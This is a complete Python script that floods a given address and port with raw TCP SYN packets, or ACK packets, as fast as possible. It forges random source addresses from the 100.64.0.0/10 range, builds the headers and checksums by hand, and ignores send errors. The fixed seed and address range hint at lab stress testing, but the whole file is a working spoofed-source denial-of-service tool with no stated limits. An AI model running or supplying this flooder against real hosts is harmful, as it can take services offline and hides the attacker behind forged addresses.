#!/usr/bin/python3
"""Sends COUNT SYNs with forged sources of 100.64.0.0/10 to ADDRESS PORT, as fast as it can; ACKs if "ack" follows."""

import random
import socket
import struct
import sys


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total > 0xFFFF:
        total = (total >> 16) + (total & 0xFFFF)
    return ~total & 0xFFFF


def main():
    address, port, count = socket.inet_aton(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3])
    sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    flags = 0x10 if sys.argv[4:] == ["ack"] else 0x02
    random.seed(1)
    for _ in range(count):
        source = struct.pack("!I", 0x64400000 | random.getrandbits(22))
        tcp = struct.pack("!HHIIBBHHH", random.randrange(1024, 65536), port, random.getrandbits(32), 0, 5 << 4, flags, 64000, 0, 0)
        pseudo = source + address + struct.pack("!BBH", 0, 6, len(tcp))
        tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0, 64, 6, 0, source, address)
        try:
            sender.sendto(ip + tcp, (sys.argv[1], 0))
        except OSError:
            # The queue is full.
            pass


main()
